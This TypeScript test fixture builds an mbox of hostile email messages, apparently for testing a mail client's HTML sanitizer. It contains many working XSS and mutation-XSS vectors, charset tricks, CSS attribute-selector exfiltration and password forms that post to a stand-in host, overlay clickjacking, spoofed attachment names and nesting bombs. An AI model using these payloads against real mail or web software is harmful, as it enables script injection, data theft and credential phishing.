import { mbox } from './mailfiles';

/** A message that means harm: its HTML, or the lines and body of a message of another shape. */
export interface Hostile {
  name: string;
  /** Stands in its subject and nowhere else: "case-007". */
  subject: string;
  /** Stands in what is read of it: "reads-007". */
  mark: string;
  /** The message as it stands in a file. */
  source: string;
}

/** Where hostile messages call home, and what the addresses they ask the relay for have in them. */
export const elsewhere = 'https://hostile.example';

/** What their scripts do: leave a mark on every window they reach. */
const run = 'top.hostile=self.hostile=1';
const markup = `<img src=x onerror=${run}>`;
const sheet = (css: string) => `<style>${css}</style><p id="secret" class="secret">secret</p>`;
const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const base64 = (content: string | Buffer) => (Buffer.from(content).toString('base64').match(/.{1,76}/g) ?? []).join('\r\n');
const encoded = (word: string) => `=?utf-8?B?${Buffer.from(word).toString('base64')}?=`;

/** What a message has besides what every one has. */
interface Rest {
  headers?: string;
  subject?: string;
  from?: string;
  type?: string;
  body: string | Buffer;
}

/** A name, and HTML in which MARK stands for the mark, or what makes the rest of the message. */
type Vector = readonly [name: string, message: string | ((mark: string, token: string) => Rest)];
type Make = Exclude<Vector[1], string>;

interface Part {
  type: string;
  content: string | Buffer;
  more?: string;
}

function multipart(kind: string, parts: Part[], boundary = 'edge'): { type: string; body: string } {
  const bodies = parts.map(({ type, content, more = '' }) =>
    type.startsWith('message/') || type.startsWith('multipart/')
      ? `--${boundary}\r\nContent-Type: ${type}${more}\r\n\r\n${String(content)}\r\n`
      : `--${boundary}\r\nContent-Type: ${type}${more}\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(content)}\r\n`,
  );
  return { type: `multipart/${kind}; boundary="${boundary}"`, body: `${bodies.join('')}--${boundary}--\r\n` };
}

/** A part of HTML. */
const page = (mark: string, html = ''): Part => ({ type: 'text/html; charset=utf-8', content: `<p>${mark}</p>${html}` });

/** HTML that brings other parts along, with their content ids. */
function related(html: string, ...brought: (Part & { id: string })[]): Make {
  const parts = brought.map(({ id, ...part }) => ({ ...part, more: `\r\nContent-ID: <${id}>` }));
  return (mark) => multipart('related', [page(mark, html), ...parts]);
}

const attached = (name: string, type = 'application/octet-stream'): Make => (mark) =>
  multipart('mixed', [
    page(mark),
    { type, content: `<script>${run}</script>`, more: `\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}` },
  ]);

const scripts: Vector[] = [
  ['a script element', `<script>${run};document.title=parent.document.title='hostile';alert(1)</script>`],
  ['a script from elsewhere', `<script src="${elsewhere}/s.js" async></script><script type=module src="${elsewhere}/m.js"></script>`],
  ['a script of this origin', '<script src="/hostile/s.js"></script>'],
  ['a picture that fails', `<img src=x onerror="${run}"><image src=x onerror="${run}">`],
  ['events without spaces and quotes', `<img/src=x/onerror=${run}><svg/onload=${run}><body/onload=${run}><p/onclick=${run}>press`],
  ['events of the mouse and keys', `<p onmouseover="${run}" onpointerenter="${run}" onclick="${run}" onkeydown="${run}" onwheel="${run}" oncontextmenu="${run}">press</p>`],
  ['events that come by themselves', `<details open ontoggle="${run}"><summary>press</summary></details><marquee onstart="${run}">m</marquee><input autofocus onfocus="${run}">`],
  ['events of animations', `<style>@keyframes a{to{color:red}}</style><p style="animation:a .01s" onanimationstart="${run}" onanimationend="${run}">a</p><p style="transition:color .01s" ontransitionend="${run}" onbeforematch="${run}" hidden=until-found>t</p>`],
  ['events of the body and frames', `<body onload="${run}" onpageshow="${run}" onresize="${run}" onhashchange="${run}" onmessage="${run}">b<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`],
  ['a drawing that runs', `<svg onload="${run}"><script>${run}</script><animate attributeName=href values="javascript:${run}" /><a><text x=9 y=9>press</text></a><set attributeName=onmouseover to="${run}"/></svg>`],
  ['a drawing with foreign content', `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe><body onload="${run}"></foreignObject><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`],
  ['frames and plug-ins', `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="javascript:${run}"></object><embed src="javascript:${run}"><applet code=x>`],
  ['a page in an address', `<iframe src="data:text/html,<script>${run}</script>"></iframe><object data="data:text/html;base64,${base64(`<script>${run}</script>`)}" type="text/html"></object>`],
  ['scripts of old browsers', `<img src="javascript:${run}" lowsrc="javascript:${run}" dynsrc="vbscript:x"><div style="width:expression(${run});behavior:url(#default#time2);-moz-binding:url(${elsewhere}/x.xml#x)">x</div><xml id=x><a></a></xml><bgsound src="javascript:${run}">`],
  ['names that take the place of the document’s', `<img name=body><img name=head><img id=defaultView><a id=documentElement></a><form name=getElementsByTagName><input name=attributes><input name=nodeName></form><a id=hostile href="cid:x" name=createElement>c</a>`],
  ['own elements and shadows', `<x-card is="x-card" onclick="${run}">press</x-card><div><template shadowrootmode=open><script>${run}</script><slot onslotchange="${run}"></slot></template></div>`],
];

const confusion: Vector[] = [
  ['math, table and style', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`],
  ['math, form and style', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`],
  ['svg, p and style', `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
  ['svg, style and a comment', `<svg><style><!--</style><img src=x onerror=${run}>--></style></svg>`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
  ['annotation-xml with HTML', `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`],
  ['annotation-xml and a foreign style', `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a title="</style><img src=x onerror=${run}>"></svg></annotation-xml></math>`],
  ['raw text: title, textarea, xmp, noembed, noframes, plaintext', `<title><p title="</title>${markup}"></title><textarea><p title="</textarea>${markup}"></textarea><xmp><p title="</xmp>${markup}"></xmp><noembed><p title="</noembed>${markup}"></noembed><noframes><p title="</noframes>${markup}"></noframes><plaintext>${markup}`],
  ['a template within a template', `<template><template><script>${run}</script></template>${markup}</template><table><template><tr>${markup}</template></table>`],
  ['a select that closes', `<select><option><style></option></select>${markup}</style></select><keygen>${markup}`],
  ['comments that end early', `<!--><img src=x onerror=${run}>--><!---><img src=x onerror=${run}>--><!-- --!><img src=x onerror=${run}>--><![CDATA[${markup}]]><?x ${markup}?>`],
  ['an attribute of raw text', `<a title="</style></script></title></textarea></noscript>${markup}">x</a><img alt="\`\`onerror=${run}" src="x\` \`">`],
  ['font in math and deep misnesting', `<math><mi><font color=red><mglyph><svg><mtext><textarea><path id="</textarea>${markup}"></math><a><table><a><b><p></a></table>${markup}`],
  ['desc and the integration points', `<svg><desc><math><mi><style></desc><img src=x onerror=${run}></style></math></svg><svg><title><style><img title="</style>${markup}"></title></svg>`],
  ['a style with the end of itself', `<style>a{content:"</style>${markup}"}</style><style><![CDATA[</style>${markup}]]></style>`],
  ['letters that are no letters', `<scr\u0000ipt>${run}</scr\u0000ipt><\u017fcript>${run}</\u017fcript><img src=x \u0000onerror=${run}><img src=x on\u212Bload=${run}>\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`],
];

const styles: Vector[] = [
  ['an import', sheet(`@import "${elsewhere}/a.css";@import url(${elsewhere}/b.css);@import url(//hostile.example/c.css) screen;`)],
  ['an import in disguise', sheet(`@\\69mport "${elsewhere}/a.css";@im\\70 ort url(${elsewhere}/b.css);@IMPORT/**/"${elsewhere}/c.css";`)],
  ['a picture in a style attribute', `<div style="background:url(${elsewhere}/a);list-style:url('${elsewhere}/b');border-image:url(&quot;${elsewhere}/c&quot;) 1;cursor:url(${elsewhere}/d),auto">x</div>`],
  ['escaped addresses in a style attribute', `<div style="background:\\75rl(${elsewhere}/a)">x</div><div style="background:\\000075 rl(${elsewhere}/b)">x</div><div style="background:u\\r\\l(${elsewhere}/c)">x</div><div style="background:UR\\4C(${elsewhere}/d)">x</div>`],
  ['an escape that ends with a line', `<div style="background:\\75&#13;&#10;rl(${elsewhere}/a)">x</div><div style="background:\\75&#10;rl(${elsewhere}/b)">x</div><div style="background:\\75&#12;rl(${elsewhere}/c)">x</div>`],
  ['attribute selectors that tell what stands there', sheet(`[id^=s]{background:url(${elsewhere}/s)}[id^=t]{background:url(${elsewhere}/t)}#secret[class*="ecr"]{list-style-image:url(${elsewhere}/ecr)}input[value^=a]{background:url(${elsewhere}/v)}`)],
  ['fonts that tell letters', sheet(`@font-face{font-family:h;src:url(${elsewhere}/f.woff);unicode-range:U+0073}@font-face{font-family:h;src:local(x),url(${elsewhere}/g) format("woff")}p{font-family:h}`)],
  ['content and counters', sheet(`p::before{content:url(${elsewhere}/a)}p::after{content:"a" url(${elsewhere}/b)/"alt"}li::marker{content:url(${elsewhere}/m)}@counter-style c{system:cyclic;symbols:url(${elsewhere}/c)}`)],
  ['image sets and fades', sheet(`p{background:image-set("${elsewhere}/a" 1x,"${elsewhere}/b" 2x)}div,p{list-style-image:-webkit-image-set(url(${elsewhere}/c) 1x)}p{border-image-source:-webkit-cross-fade(url(${elsewhere}/d),url(${elsewhere}/e),50%)}p{mask:image("${elsewhere}/f")}`)],
  ['filters, masks, shapes and clips', sheet(`p{filter:url(${elsewhere}/f#f);mask:url(${elsewhere}/m);clip-path:url(${elsewhere}/c#c);shape-outside:url(${elsewhere}/s);float:left;offset-path:url(${elsewhere}/o#o);backdrop-filter:url(${elsewhere}/b#b)}`)],
  ['an address kept in a property', sheet(`p{--a:url(${elsewhere}/a);--b:\\75 rl(${elsewhere}/b);background:var(--a),var(--b)}@property --c{syntax:"<url>";inherits:true;initial-value:url(${elsewhere}/c)}p{list-style-image:var(--c)}`)],
  ['comments and strings that hide addresses', sheet(`p{background:/**/url(/**/${elsewhere}/a)}p{a:"\\";background:url(${elsewhere}/b);"}p{list-style:url( '${elsewhere}/c' )}/*"*/p{cursor:url(${elsewhere}/d),pointer}/*"*/`)],
  ['states and scrolls that tell', sheet(`@media (min-width:1px){p{background:url(${elsewhere}/w)}}@supports (color:red){p{list-style:url(${elsewhere}/s)}}:visited{background:url(${elsewhere}/v)}@container (width>0){p{background:url(${elsewhere}/q)}}@scope(p){:scope{cursor:url(${elsewhere}/z),auto}}`)],
];

const loads: Vector[] = [
  ['pictures', `<img src="${elsewhere}/a.png"><img src="//hostile.example/b.png"><img src="HTTP://hostile.example/c.png"><img src="\\\\hostile.example\\d.png"><img src="/\\hostile.example/e.png"><img src="https:hostile.example/f.png"><img src="&#9;ht&#10;tps://hostile.example/g.png">`],
  ['sets of pictures', `<img srcset="${elsewhere}/a.png 1x,${elsewhere}/b.png 2x" sizes=1px loading=eager><picture><source srcset="${elsewhere}/c.png"><img src="${elsewhere}/d.png"></picture>`],
  ['films and sounds', `<video src="${elsewhere}/a.mp4" poster="${elsewhere}/p.png" autoplay preload=auto><source src="${elsewhere}/b.mp4"><track src="${elsewhere}/t.vtt" default kind=captions></video><audio src="${elsewhere}/c.mp3" autoplay></audio>`],
  ['frames, objects and embeds', `<iframe src="${elsewhere}/i"></iframe><object data="${elsewhere}/o"><param name=movie value="${elsewhere}/p"></object><embed src="${elsewhere}/e"><portal src="${elsewhere}/r"></portal><fencedframe></fencedframe>`],
  ['style sheets', `<link rel=stylesheet href="${elsewhere}/a.css"><link rel="alternate stylesheet" title=x href="${elsewhere}/b.css"><link rel=stylesheet href="/hostile/c.css">`],
  ['hints', ['preload as=image', 'prefetch', 'dns-prefetch', 'preconnect', 'prerender', 'modulepreload', 'icon', 'manifest', 'apple-touch-icon'].map((rel) => `<link rel=${rel} href="${elsewhere}/${rel.slice(0, 4)}">`).join('')],
  ['a base for all addresses', `<html><head><base href="${elsewhere}/" target=_top></head><body><p>MARK</p><img src="a.png"><a href="b">press</a></body></html>`],
  ['a page that leaves by itself', `<meta http-equiv=refresh content="0;url=${elsewhere}/"><meta http-equiv=refresh content="0;url=javascript:${run}"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv=set-cookie content="hostile=1">`],
  ['pictures in drawings', `<svg><image href="${elsewhere}/a.png"/><image xlink:href="${elsewhere}/b.png"/><use href="${elsewhere}/c.svg#x"/><filter id=f><feImage href="${elsewhere}/d.png"/></filter><style>@import "${elsewhere}/e.css";</style><rect fill="url(${elsewhere}/g#g)"/></svg>`],
  ['backgrounds', `<body background="${elsewhere}/a.png"><table background="${elsewhere}/b.png"><tr background="${elsewhere}/c.png"><td background="//hostile.example/d.png">x</td></tr></table>`],
  ['attributes of old', `<img lowsrc="${elsewhere}/a" dynsrc="${elsewhere}/b" longdesc="${elsewhere}/c" usemap="${elsewhere}/d"><bgsound src="${elsewhere}/e"><layer src="${elsewhere}/f"></layer><ilayer src="${elsewhere}/g"></ilayer><blockquote cite="${elsewhere}/h">q</blockquote><html manifest="${elsewhere}/i">`],
  ['things of this origin', '<img src="/hostile/a.png"><img src="hostile.png"><img src="../api/hostile"><iframe src="/hostile/b"></iframe><object data="/hostile/c"></object><div style="background:url(/hostile/d)">x</div>'],
  ['scripts that would fetch', `<script>fetch('${elsewhere}/f');navigator.sendBeacon('${elsewhere}/b');new WebSocket('wss://hostile.example');new Image().src='${elsewhere}/i';new Worker('/hostile/w.js');open('${elsewhere}')</script>`],
  ['parts of messages that lie elsewhere', (mark) => ({ headers: `Content-Location: ${elsewhere}/page.html\r\nContent-Base: ${elsewhere}/`, type: 'text/html; charset=utf-8', body: `<p>${mark}</p><img src="relative-hostile.png">` })],
];

const forms: Vector[] = [
  ['a form that asks for a password', `<form action="${elsewhere}/steal" method=post><input name=user autocomplete=username><input type=password name=password><button>press</button></form>`],
  ['buttons that post elsewhere', `<form id=f></form><button form=f formaction="${elsewhere}/steal" formmethod=post>press</button><input type=submit form=f formaction="javascript:${run}" value=press><input type=image form=f src="${elsewhere}/i.png" formaction="${elsewhere}/x">`],
  ['a form to this origin', `<form action="/api/hostile" method=post target=_top><input type=hidden name=email value=x><textarea name=t></textarea><select name=s><option>a</select><button>press</button></form>`],
  ['a form in disguise', `<FoRm/action="${elsewhere}/steal"><isindex action="${elsewhere}/steal" prompt=Password><keygen name=k><output>o</output><fieldset><legend>Sign in again</legend><label for=p>Password</label></fieldset></FoRm>`],
  ['text that can be written over', `<div contenteditable onblur="${run}">press</div><div contenteditable=plaintext-only>press</div><p tabindex=1 accesskey=s autofocus>press</p><datalist id=d><option>a</datalist><meter value=1></meter><progress></progress>`],
  ['a form within a drawing and a table', `<table><form action="${elsewhere}/steal"><tr><td><input name=password></td></tr></form></table><svg><foreignObject><form action="${elsewhere}/steal"><input><button>press</button></form></foreignObject></svg>`],
];

const covers: Vector[] = [
  ['fixed over everything', '<div style="position:fixed;inset:0;z-index:2147483647;background:red">press</div><div style="position:fixed!important;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:2147483647">press</div>'],
  ['absolute and far out', '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;z-index:999999;background:red">press</div>'],
  ['negative margins', '<div style="margin:-900px -900px 0 -900px;padding:2000px;background:red;position:relative">press</div>'],
  ['transforms', '<div style="transform:translate(-500px,-500px) scale(50);background:red;will-change:transform">press</div><div style="translate:-800px -600px;scale:90;background:blue">press</div>'],
  ['dialogs and popovers', `<dialog open style="position:fixed;inset:0">press</dialog><div popover id=p style="inset:0;width:100vw;height:100vh">press</div><button popovertarget=p popovertargetaction=show>press</button><button commandfor=p command=show-popover>press</button>`],
  ['styles of the whole document', '<style>html,body{position:fixed!important;inset:-5000px!important;z-index:2147483647!important;background:red!important;height:9999999px!important}iframe,header,nav{display:none!important}:root{zoom:50}</style><p>press</p>'],
  ['a body without end', `<div style="height:99999999px;width:99999999px;background:red">press</div>`],
  ['content that grows with its frame', '<style>body{height:calc(100vh + 100px)!important;width:200vw}</style><p style="height:200vh">press</p>'],
  ['shadows, outlines and blends', '<div style="box-shadow:0 0 0 9999px red;outline:9999px solid red;outline-offset:500px;mix-blend-mode:difference;filter:drop-shadow(-900px -900px 0 red)">press</div>'],
  ['anchors, sticky and view transitions', '<style>@view-transition{navigation:auto}p{position:sticky;top:-9999px;view-transition-name:root;anchor-name:--a;position-anchor:--a}</style><p>press</p><div style="position:fixed;position-area:top left;width:200vw;height:200vh">press</div>'],
];

const links: Vector[] = [
  ['javascript:', `<a href="javascript:${run}">press</a><a href="JaVaScRiPt:${run}">press</a><a href=" javascript:${run}">press</a><a href="javascript://x%0a${run}">press</a>`],
  ['javascript: with letters in between', `<a href="java&#9;script:${run}">press</a><a href="java&#10;script:${run}">press</a><a href="&#1;javascript:${run}">press</a><a href="java&#0;script:${run}">press</a><a href="javascript&colon;${run}">press</a><a href="&#x6A&#x61vascript:${run}">press</a>`],
  ['data:, blob:, vbscript: and others', `<a href="data:text/html,<script>${run}</script>">press</a><a href="data:text/html;base64,${base64(markup)}">press</a><a href="vbscript:x">press</a><a href="blob:null/x">press</a><a href="view-source:x">press</a><a href="filesystem:x">press</a><a href="file:///etc/passwd">press</a>`],
  ['links that take the window', `<a href="${elsewhere}/t" target=_top>live</a><a href="${elsewhere}/p" target=_parent rel=opener>live</a><a href="${elsewhere}/s" target=_self>live</a><map name=m><area href="${elsewhere}/a" target=_top shape=default></map><img usemap=#m alt=map width=99 height=99>`],
  ['links that tell and save', `<a href="${elsewhere}/x" ping="${elsewhere}/ping" download="hostile.exe" attributionsrc="${elsewhere}/r" referrerpolicy=unsafe-url>live</a><img attributionsrc="${elsewhere}/y">`],
  ['links within the app', '<a href="/api/hostile">press</a><a href="/mail?hostile">press</a><a href="?hostile">press</a><a href="//hostile.example">press</a><a href="\\\\hostile.example">press</a><a href="/\\hostile.example">press</a>'],
  ['links of drawings and formulas', `<svg><a href="javascript:${run}"><text y=20>press</text></a><a xlink:href="javascript:${run}"><rect width=99 height=99 /></a></svg><math href="javascript:${run}"><mi href="javascript:${run}">press</mi><maction actiontype="statusline#x" xlink:href="javascript:${run}">press</maction></math>`],
  ['scripts behind the press of a link', `<a href="#" onclick="open('${elsewhere}');top.location='${elsewhere}';${run}">press</a><a href="#x" onauxclick="${run}">press</a><details><summary onclick="${run}">press</summary>x</details>`],
  ['pictures that are pages', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"><img src="data:text/html,<script>${run}</script>"><img src="data:image/png;base64,${base64(`<script>${run}</script>`)}"><iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"></iframe>`],
  ['a content id that is a page', related('<img src="cid:page"><iframe src="cid:page"></iframe><a href="cid:page">press</a><object data="cid:page"></object>', { id: 'page', type: 'text/html', content: `<script>${run}</script>` })],
  ['a content id that is a drawing', related('<img src="cid:drawing">', { id: 'drawing', type: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${run}"><script>${run}</script><image href="${elsewhere}/a.png"/><rect width="9" height="9"/></svg>` })],
  ['content ids that are addresses', related(`<img src="cid:javascript:${run}"><img src="cid:${elsewhere}/a.png"><img src="cid:../../api/hostile"><img src="cid:%00%ff&quot; onerror=${run}"><img src="CID:dot"><div style="background:url(cid:dot)">x</div><table background="cid:dot"><tr><td>x</table>`, { id: 'dot', type: 'image/png', content: Buffer.from(dot, 'base64') }, { id: `javascript:${run}`, type: 'image/png; name="x"', content: markup })],
];

const disguises: Vector[] = [
  ['seven bits: utf-7', (mark) => ({ type: 'text/html; charset=utf-7', body: `<p>${mark}</p>+ADw-script+AD4-${run}+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-${run}+AD4-` })],
  ['two bytes a letter: utf-16', (mark) => ({ type: 'text/html; charset=utf-16le', body: Buffer.from(`\uFEFF<p>${mark}</p><script>${run}</script>${markup}`, 'utf16le') })],
  ['a charset that lies', (mark) => ({ type: 'text/html; charset=iso-2022-jp', body: Buffer.from(`<p>${mark}</p><meta charset=utf-7><p title="\x1b$@">x</p><a title="\x1b(B${markup}">y</a>`, 'latin1') })],
  ['broken utf-8', (mark) => ({ type: 'text/html; charset=utf-8', body: Buffer.concat([Buffer.from(`<p>${mark}</p>`), Buffer.from([0xc0, 0xbc]), Buffer.from('script>'), Buffer.from([0xf8]), Buffer.from(`"><img src="x\xc3`, 'latin1'), Buffer.from(`"onerror=${run}>`)]) })],
  ['a subject of markup', (mark, token) => ({ subject: `<script>${run}</script>${markup} ${token}`, body: `<p>${mark}</p>` })],
  ['a subject of controls', (mark, token) => ({ subject: encoded(`\u202Etxt.exe\u2066\u0007\u0000\u001b[31m\u2028 <img src=x onerror=${run}>\u2069 ${token}`), body: `<p>${mark}</p>` })],
  ['a sender of markup', (mark) => ({ from: `"${markup}" <a@contoso.example>`, body: `<p>${mark}</p>` })],
  ['a sender that pretends', (mark) => ({ from: `${encoded('ines@northbeam.example\u202E<\u200B>')} <"<script>${run}</script>"@hostile.example>`, headers: `Reply-To: "</p>${markup}" <r@hostile.example>\r\nList-Id: ${markup} <l.hostile.example>`, body: `<p>${mark}</p>` })],
  ['an attachment named in markup', attached(`"><img src=x onerror=${run}>.txt`, 'text/plain')],
  ['an attachment that turns its name round', attached('invoice\u202Efdp.exe')],
  ['an attachment with controls and paths', attached('../../\u0000etc\u0007/\u2067pass\u200Bwd\r\n.html', 'text/html')],
  ['a page that says it is a picture', (mark) => multipart('mixed', [page(mark), { type: 'image/png', content: `<script>${run}</script>`, more: '; name="a.png.html"' }])],
  ['very deep', `${'<div>'.repeat(20_000)}deep${markup}`],
  ['very deep in other ways', `${'<table><tr><td>'.repeat(1_500)}${'<b><i><u>'.repeat(1_500)}${'<blockquote>'.repeat(1_500)}${'<svg><g><math>'.repeat(500)}${markup}`],
  ['parts within parts', (mark) => {
    let inner: Part = page(mark, `<script>${run}</script>`);
    for (let depth = 0; depth < 25; depth++) {
      const { type, body } = multipart('mixed', [inner], `edge${depth}`);
      inner = { type, content: body };
    }
    return { type: inner.type, body: String(inner.content) };
  }],
  // One in fifty has a handler: the browser tells the test's tools of each that it refuses, which would be all that is measured.
  ['two megabytes of tags', `<i onclick=${run}>x</i>${'<i title="no more than a title">x</i>'.repeat(49)}`.repeat(Math.ceil(2_000_000 / (50 * 38)))],
];

/** A message within a message, which is opened on its own. */
const nested: Vector[] = [
  ['a message within a message', (mark) => {
    const innermost = `Subject: ${markup}\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>deepest ${mark}</p><script>${run}</script>${markup}`;
    const inner = multipart('mixed', [{ type: 'text/html', content: `<p>inner ${mark}</p><script>${run}</script><iframe srcdoc="${markup}"></iframe><form action=${elsewhere}><input></form>` }, { type: 'message/rfc822', content: innermost }], 'inner');
    const message = `From: "${markup}" <a@hostile.example>\r\nSubject: Within ${markup}\r\nMIME-Version: 1.0\r\nContent-Type: ${inner.type}\r\n\r\n${inner.body}`;
    return multipart('mixed', [page(mark), { type: 'message/rfc822', content: message }], 'outer');
  }],
];

const tables = { scripts, confusion, styles, loads, forms, covers, links, disguises, nested };
export type Group = keyof typeof tables;

let count = 0;

/** The messages of each group, in the order in which the list shows them. */
export const hostile: Record<Group, Hostile[]> = Object.fromEntries(Object.entries(tables).map(([group, vectors]) => [group, vectors.map((vector) => build(vector, count++))])) as Record<Group, Hostile[]>;

/** All messages in one file, as others write it. */
export const hostileFile = mbox(Object.values(hostile).flatMap((messages) => messages.map(({ source }) => source)));

/** How many messages there are. */
export const hostileCount = count;

/** build makes the message of a vector; a greater n is an older one. */
function build([name, message]: Vector, n: number): Hostile {
  const number = String(n).padStart(3, '0');
  const [mark, token] = [`reads-${number}`, `case-${number}`];
  const rest = typeof message === 'string' ? { body: (message.includes('MARK') ? message : `<p>MARK</p>${message}`).replaceAll('MARK', mark) } : message(mark, token);
  const { body, type = 'text/html; charset=utf-8', subject = token, from = 'Anna Berg <anna@contoso.example>', headers } = rest as Rest;
  const date = new Date(Date.UTC(2026, 10, 3, 20) - n * 60_000).toUTCString().replace('GMT', '+0000');
  const parts = type.startsWith('multipart/');
  return {
    name,
    subject: token,
    mark,
    source: [
      `From: ${from}`,
      'To: Ines Author <ines@northbeam.example>',
      `Subject: ${subject}`,
      `Date: ${date}`,
      `Message-ID: <${token}@hostile.example>`,
      ...(headers === undefined ? [] : [headers]),
      'MIME-Version: 1.0',
      `Content-Type: ${type}`,
      ...(parts ? [] : ['Content-Transfer-Encoding: base64']),
      '',
      parts ? String(body) : base64(body),
      '',
    ].join('\r\n'),
  };
}
